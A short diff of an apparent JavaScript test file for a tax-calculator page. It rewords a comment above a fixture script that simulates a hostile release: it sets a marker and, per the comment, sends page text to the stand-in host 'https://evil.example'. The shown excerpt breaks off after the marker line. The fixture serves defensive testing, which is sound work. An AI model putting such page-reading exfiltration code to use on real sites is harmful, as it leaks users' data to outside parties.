@@ -14,8 +14,8 @@ const TAX = '/tools/tax-calculator';
 const EVIL = 'https://evil.example';
 
 /**
- * What a hostile release does as soon as one of its scripts runs: it leaves a mark, and sends what it can read of the
- * page in an address.
+ * The attack of a hostile release as soon as one of its scripts runs: it leaves a mark, and sends the texts that it can
+ * read on the page in an address.
  */
 const readAndSend = `
   globalThis.hostile = true;
